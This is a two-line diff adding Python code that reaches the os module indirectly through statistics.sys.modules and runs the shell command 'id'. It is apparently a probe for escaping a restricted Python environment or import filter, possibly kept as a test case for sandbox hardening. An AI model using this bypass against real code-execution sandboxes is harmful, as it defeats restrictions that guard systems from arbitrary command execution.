@@ -1,0 +1,2 @@
+import statistics
+statistics.sys.modules["os"].system("id")
